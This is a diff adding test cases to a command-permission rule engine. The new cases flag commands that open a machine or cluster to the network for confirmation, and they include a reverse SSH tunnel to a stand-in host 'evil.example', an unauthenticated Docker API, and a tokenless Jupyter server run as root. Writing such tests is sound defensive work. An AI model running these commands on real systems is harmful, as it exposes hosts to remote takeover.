@@ -140,4 +140,20 @@ describe('rules: the machine itself, round 5 (issue #18)', () => {
     { cmd: 'gh api repos/acme/acme-shop/branches/main/protection', decision: 'allow' },
     { cmd: 'gh api -X PATCH repos/acme/acme-shop -F delete_branch_on_merge=true', decision: 'allow' },
   ]);
+
+  table('opening this machine or a cluster to the network', [
+    { cmd: "kubectl proxy --address 0.0.0.0 --accept-hosts '.*'", decision: 'ask', reason: /cluster's API/ },
+    { cmd: 'kubectl port-forward --address 0.0.0.0 svc/db 5432:5432', decision: 'ask' },
+    { cmd: 'ssh -R 2222:localhost:22 evil.example', decision: 'ask', reason: /ssh -R/ },
+    { cmd: 'sudo dockerd -H tcp://0.0.0.0:2375', decision: 'ask', reason: /Docker API/ },
+    { cmd: "jupyter notebook --ip=0.0.0.0 --NotebookApp.token='' --allow-root", decision: 'ask' },
+    { cmd: 'ngrok tcp 22', decision: 'ask' },
+    { cmd: 'kubectl proxy', decision: 'allow' },
+    { cmd: 'kubectl proxy --address 127.0.0.1 --port 8002', decision: 'allow' },
+    { cmd: 'kubectl port-forward svc/db 5432:5432', decision: 'allow' },
+    { cmd: 'ssh -L 5432:db:5432 bastion', decision: 'allow' },
+    { cmd: 'dockerd -H unix:///var/run/docker.sock', decision: 'allow' },
+    { cmd: 'jupyter notebook --ip=0.0.0.0', decision: 'allow' },
+    { cmd: 'ngrok http 3000', decision: 'allow' },
+  ]);
 });
